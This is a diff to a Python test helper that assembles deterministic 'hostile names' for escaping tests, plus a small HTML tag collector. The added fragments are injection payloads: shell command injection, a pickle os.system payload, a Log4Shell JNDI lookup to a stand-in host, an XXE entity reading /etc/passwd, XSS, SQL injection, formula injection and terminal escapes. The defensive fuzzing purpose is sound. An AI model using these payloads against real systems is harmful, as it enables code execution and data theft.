@@ -1,6 +1,7 @@
 """Names that an attacker would choose: the same 300 in every run."""
 
 import random
+from html.parser import HTMLParser
 
 CANARY = "PWNED"
 PIECES = (
@@ -11,12 +12,23 @@ PIECES = (
     f"; touch {CANARY} #",
     f"\\\n#error {CANARY}\n",
     "??/",
+    f"x *\\\n/ int {CANARY}; /*",
+    f"x *??/\n/ int {CANARY}; /*",
+    f"&& touch {CANARY} &&",
+    f"| touch {CANARY}",
+    f"cos\nsystem\n(S'touch {CANARY}'\ntR.",
+    "${jndi:ldap://x.test/a}",
+    "--help",
+    f"-o {CANARY}",
     "*",
     "/",
     "//",
     "/*",
     '=HYPERLINK("http://x.test","y")',
     "=1+1",
+    "x;=1+1",
+    "x\t=1+1",
+    "\uff1d1+1",
     "+1+1",
     "-2+3",
     "@SUM(A1:A9)",
@@ -25,6 +37,17 @@ PIECES = (
     "<script>alert(1)</script>",
     '"><img src=x onerror=alert(1)>',
     "</title>",
+    "</script><script>alert(1)//",
+    "</style><svg onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "[x](javascript:alert(1))",
+    "&#60;script&#62;",
+    "&xxe;",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
+    "{{7*7}}",
+    "__proto__",
+    "constructor",
     "]]>",
     "<!--",
     "&lt;",
@@ -32,6 +55,9 @@ PIECES = (
     "\x1b[2J",
     "\x1b]0;title\x07",
     "\x1b]8;;http://x.test\x07",
+    "\x1bP$q\x1b\\",
+    "\x9d0;title\x9c",
+    "\b\b\b",
     "\r",
     "\n",
     "\0",
@@ -39,8 +65,16 @@ PIECES = (
     "\x9b2J",
     "\u202e",
     "\u2028",
+    "\u200f\u2066",
+    "\ufeff",
+    "\ud800",
+    "\udfff\ud83d",
+    "Z" + "\u0351\u036b" * 20,
     "\n[inputs]\n",
     '"\n"x" = 1 #',
+    '"]',
+    '"}], "x": [{"',
+    "'; DROP TABLE x; --",
     '"""',
     "'''",
     "\\",
@@ -58,10 +92,18 @@ PIECES = (
     f"/tmp/{CANARY}",
     "..\\..\\x",
     "CON",
+    "nul.csv",
+    "LPT1 .x",
     "C:",
+    "\\\\x.test\\share\\x",
+    ".",
+    "x. ",
     "~",
     "%s%n",
+    "%999999999d",
+    "%(x)s",
     "{0}",
+    "{0.__class__}",
     "{x!r}",
     "$x^2$",
     "$\\frac{$",
@@ -80,6 +122,10 @@ PIECES = (
     "![](http://x.test/a.png)",
     "|",
     "`",
+    "der(x)",
+    "end x; model y",
+    "time",
+    "int",
     "nan",
     "1e999",
     "true",
@@ -94,3 +140,14 @@ def hostile_names(count: int = 300) -> list[str]:
     while len(names) < count:
         names[chance.choice(("", "x", "T ")).join(chance.choices(PIECES, k=chance.choice((2, 2, 3))))] = None
     return list(names)[:count]
+
+
+class Tags(HTMLParser):
+    """Every tag with its attributes."""
+
+    def __init__(self):
+        super().__init__()
+        self.tags = []
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append((tag, *sorted(name for name, _ in attributes)))
